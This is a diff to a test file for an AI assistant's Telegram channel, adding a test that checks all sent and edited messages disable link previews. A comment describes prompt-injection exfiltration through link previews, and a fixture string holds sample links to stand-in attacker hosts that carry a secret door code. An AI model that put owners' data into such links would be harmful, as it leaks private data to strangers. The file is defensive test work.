@@ -6,6 +6,8 @@ import { afterEach, describe, expect, it } from 'vitest';
 import type { ApprovalView } from '../../main/common/approvals.js';
 import { compose, type Core } from '../../main/compose.js';
 import { defineTool } from '../../main/tools/tool.js';
+import { TelegramChannel } from '../../main/channels/telegram/telegram-channel.js';
+import { startFakeBotApi, TEST_BOT_TOKEN } from '../fakes/fake-bot-api.js';
 import { ask } from '../helpers/ask.js';
 import { MemorySecretStore } from '../helpers/memory-secret-store.js';
 import { ScriptedProvider, call, text } from '../helpers/scripted-provider.js';
@@ -109,5 +111,30 @@ describe('the pause switch outlives an approval that was waiting when it was fli
     });
     await ask(core, core.sessions.current('local', false), 'email newperson@example.org hello');
     expect(ran).toEqual([]);
+  });
+});
+
+describe("a link in a message to the owner is not fetched by Telegram's servers", () => {
+  // A model that read the owner's notes (or a page that told it to) ends its reply with a link whose address carries
+  // them: nothing asks, since the reply goes to the owner. If Telegram builds a link preview, its servers fetch that
+  // address, and the data reaches the stranger's host with no effect ever passing the gate.
+  const leak = 'See [your summary](https://collector.evil.test/p?d=door-code-4321) and https://pics.evil.test/door-code-4321.png';
+
+  it('every message and every edited notice is sent with link previews off', async () => {
+    const fake = await startFakeBotApi();
+    try {
+      const channel = new TelegramChannel({ token: async () => TEST_BOT_TOKEN, apiRoot: fake.apiRoot, assistantNames: ['pavise'], retry: { baseDelayMs: 20, maxDelayMs: 2_000 } });
+      const signal = new AbortController().signal;
+      const sent = await channel.send({ conversationId: '5550100', text: leak, idempotencyKey: 'reply:1' }, signal);
+      expect(sent.ok).toBe(true);
+      fake.rejectHtml = true; // the plain-text resend too
+      await channel.send({ conversationId: '5550100', text: leak, idempotencyKey: 'reply:2' }, signal);
+      await channel.replace('5550100', String(fake.sent[0]?.message_id), leak, signal);
+      const calls = [...fake.callsTo('sendMessage'), ...fake.callsTo('editMessageText')];
+      expect(calls.length).toBeGreaterThanOrEqual(4);
+      for (const call of calls) expect(call.params.link_preview_options, `${call.method} ${JSON.stringify(call.params)}`).toEqual({ is_disabled: true });
+    } finally {
+      await fake.close();
+    }
   });
 });
